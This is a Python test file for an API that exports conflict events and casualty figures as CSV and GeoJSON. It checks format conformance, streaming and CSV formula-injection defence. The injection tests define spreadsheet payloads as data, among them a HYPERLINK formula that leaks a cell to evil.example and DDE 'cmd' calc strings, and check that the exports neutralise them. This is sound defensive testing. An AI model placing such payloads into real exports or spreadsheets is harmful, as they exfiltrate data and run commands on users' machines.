"""CSV (RFC 4180) and GeoJSON (RFC 7946) exports: parsed back and checked against the lists."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from sqlmodel import Session

from app.config import Settings
from app.db import get_engine
from app.export import EVENT_COLUMNS, FIGURE_COLUMNS, csv_lines
from app.main import create_app
from app.models import Actor, Article, Event, EventActor, Figure, Place
from tests.conftest import API_KEY
from tests.paging import all_items


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("path", "columns", "key"), [
    ("/v1/events", EVENT_COLUMNS, "event_id"),
    ("/v1/figures", FIGURE_COLUMNS, "figure_id"),
])
def test_csv_has_one_row_per_record(seeded_client: TestClient, path: str,
                                    columns: tuple[str, ...], key: str) -> None:
    response = seeded_client.get(path, params={"format": "csv", "country": "RU"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.text.endswith("\r\n") and "\r\n" in response.text.split("\n")[0] + "\n"
    rows = _csv(response.text)
    assert tuple(rows[0].keys()) == columns
    records = all_items(seeded_client, path, country="RU")
    assert [int(r[key]) for r in rows] == [r["id"] for r in records]


def test_csv_excerpts_survive_quoting(seeded_client: TestClient) -> None:
    rows = _csv(seeded_client.get("/v1/events", params={"format": "csv"}).text)
    texts = {a["id"]: seeded_client.get(f"/v1/articles/{a['id']}").json()["text"]
             for a in seeded_client.get("/v1/articles").json()["items"]}
    assert any("," in r["excerpt"] or '"' in r["excerpt"] for r in rows)
    for row in rows:
        text = texts[int(row["article_id"])]
        assert text[int(row["excerpt_start"]):int(row["excerpt_end"])] == row["excerpt"]


def test_csv_by_accept_header_and_limit(seeded_client: TestClient) -> None:
    response = seeded_client.get("/v1/figures", params={"limit": 2},
                                 headers={"Accept": "text/csv"})
    assert response.headers["content-type"].startswith("text/csv")
    assert len(_csv(response.text)) == 2


def test_geojson_follows_rfc_7946(seeded_client: TestClient) -> None:
    response = seeded_client.get("/v1/events", params={"format": "geojson"})
    assert response.headers["content-type"] == "application/geo+json"
    collection = response.json()
    events = {e["id"]: e for e in all_items(seeded_client, "/v1/events", page_size=100)}
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == len(events)
    for feature in collection["features"]:
        assert feature["type"] == "Feature"
        assert all(not isinstance(v, dict | list) for v in feature["properties"].values())
        place = events[feature["id"]]["place"]
        if feature["geometry"] is None:
            assert place is None or place["lat"] is None
            continue
        lon, lat = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point"
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert (lon, lat) == (place["lon"], place["lat"])  # lon first


def test_geojson_of_figures_by_accept_header(seeded_client: TestClient) -> None:
    response = seeded_client.get("/v1/figures", headers={"Accept": "application/geo+json"},
                                 params={"counts": "troops"})
    features = response.json()["features"]
    assert features and all(f["properties"]["counts"] == "troops" for f in features)


def test_export_sort_must_be_id(seeded_client: TestClient) -> None:
    response = seeded_client.get("/v1/events", params={"format": "csv", "sort": "-date"})
    assert response.status_code == 422


def test_ten_thousand_rows_stream_in_chunks(database_url: str) -> None:
    """Rows are written in batches as they are read, not assembled first."""
    engine = get_engine(database_url)
    now = datetime.now(UTC)
    with Session(engine) as session:
        article = Article(sha256="0" * 64, text="x" * 100, language="en")
        session.add(article)
        session.commit()
        session.execute(insert(Event), [
            {"article_id": article.id, "type": "shelling", "sentence_index": i,
             "excerpt_text": f"Shelling, number {i}.", "excerpt_start": 0, "excerpt_end": 10,
             "date_precision": "unknown", "created_at": now, "updated_at": now}
            for i in range(10_000)])
        session.commit()
    app = create_app(Settings(database_url=database_url, api_key=API_KEY, warm_up=False))
    with TestClient(app) as client, client.stream(
            "GET", "/v1/events", params={"format": "csv", "count": "true"}) as response:
        assert response.headers["X-Total-Count"] == "10000"
        chunks = list(response.iter_text())
    assert len(chunks) > 5
    rows = _csv("".join(chunks))
    assert len(rows) == 10_000 and rows[-1]["excerpt"] == "Shelling, number 9999."


# --- CSV injection (OWASP): formula-like text cells are neutralised, numbers stay numbers ---

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
HOSTILE = {  # where each hostile text goes -> the text
    "place": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "admin1": "+cmd|' /C calc'!A0",
    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "excerpt": "-2+3+cmd|' /C calc'!A0",
    "date_text": "\t=1+1",
    "claimant": "\r=1+1",
    "hedge": "=HYPERLINK(\"http://evil.example\")",
    "figure_text": "-5 attackers",
    "publisher": "=cmd|' /C calc'!A0",
}


def _store_hostile_rows(url: str) -> None:
    """One event and one figure whose every text field starts like a formula."""
    with Session(get_engine(url)) as session:
        article = Article(sha256="f" * 64, text=HOSTILE["excerpt"], language="en",
                          publisher=HOSTILE["publisher"])
        place = Place(name=HOSTILE["place"], kind="settlement", country="BF",
                      admin1=HOSTILE["admin1"], lat=-10.5, lon=-3.2)
        actor = Actor(name=HOSTILE["actor"], kind="armed_group")
        session.add_all([article, place, actor])
        session.flush()
        event = Event(article_id=article.id, place_id=place.id, country="BF", type="shelling",
                      date_text=HOSTILE["date_text"], sentence_index=0,
                      excerpt_text=HOSTILE["excerpt"], excerpt_start=0,
                      excerpt_end=len(HOSTILE["excerpt"]))
        session.add(event)
        session.flush()
        event.actor1_id = actor.id
        session.add(EventActor(event_id=event.id, actor_id=actor.id, role="initiator"))
        session.add(Figure(article_id=article.id, event_id=event.id, value=-5.0, unit="person",
                           counts="killed", claimant=HOSTILE["claimant"], hedge=HOSTILE["hedge"],
                           hedged=True, text=HOSTILE["figure_text"], start=0, end=2,
                           excerpt_text=HOSTILE["excerpt"], excerpt_start=0,
                           excerpt_end=len(HOSTILE["excerpt"])))
        session.commit()


@pytest.fixture
def hostile_csv(database_url: str) -> Iterator[dict[str, bytes]]:
    """The raw bytes of the events and figures CSV exports over the hostile rows."""
    _store_hostile_rows(database_url)
    app = create_app(Settings(database_url=database_url, api_key=API_KEY, warm_up=False))
    with TestClient(app) as client:
        yield {path: client.get(f"/v1/{path}", params={"format": "csv"}).content
               for path in ("events", "figures")}


def test_no_csv_text_cell_starts_like_a_formula(hostile_csv: dict[str, bytes]) -> None:
    """Read back with the csv module from the raw bytes: every risky start carries a quote."""
    for path, body in hostile_csv.items():
        rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
        assert len(rows) == 2, (path, rows)
        for cell in rows[1]:
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), (
                path, cell)
    events, figures = hostile_csv["events"], hostile_csv["figures"]
    assert b"\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1" in events
    assert b",'+cmd|' /C calc'!A0," in events
    assert b",'\t=1+1," in events and b",\"'\r=1+1\"," in figures  # CR forces quotes
    assert b",-3.2," in events and b",-10.5," in events  # coordinates stay numbers
    assert b",-5.0," in figures


def test_pandas_reads_neutralised_text_and_real_numbers(hostile_csv: dict[str, bytes]) -> None:
    pandas = pytest.importorskip("pandas")
    events = pandas.read_csv(io.BytesIO(hostile_csv["events"]), keep_default_na=False)
    figures = pandas.read_csv(io.BytesIO(hostile_csv["figures"]), keep_default_na=False)
    assert events["longitude"].dtype == "float64" and events["longitude"][0] == -3.2
    assert events["latitude"][0] == -10.5 and figures["value"][0] == -5.0
    assert events["location"][0] == "'" + HOSTILE["place"]
    assert events["admin1"][0] == "'" + HOSTILE["admin1"]
    assert events["actor1"][0] == "'" + HOSTILE["actor"]
    assert events["source"][0] == "'" + HOSTILE["publisher"]
    assert events["excerpt"][0] == "'" + HOSTILE["excerpt"]
    assert events["date_text"][0] == "'" + HOSTILE["date_text"]
    assert figures["claimant"][0] == "'" + HOSTILE["claimant"]
    assert figures["hedge"][0] == "'" + HOSTILE["hedge"]
    assert figures["text"][0] == "'" + HOSTILE["figure_text"]
    for frame in (events, figures):
        for column in frame:
            for cell in frame[column]:
                assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (
                    column, cell)


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"), ("-5", "-5"), ("+1.5", "+1.5"),
    ("-1e5", "-1e5"), ("-.5", "-.5"), ("Kursk", "Kursk"), ("1=1", "1=1"), ("", "")])
def test_csv_cells_are_neutralised_unless_plain_numbers(text: str, cell: str) -> None:
    lines = "".join(csv_lines(("a",), [{"a": text}])).split("\r\n", 1)[1]
    assert next(csv.reader(io.StringIO(lines, newline=""))) == [cell]
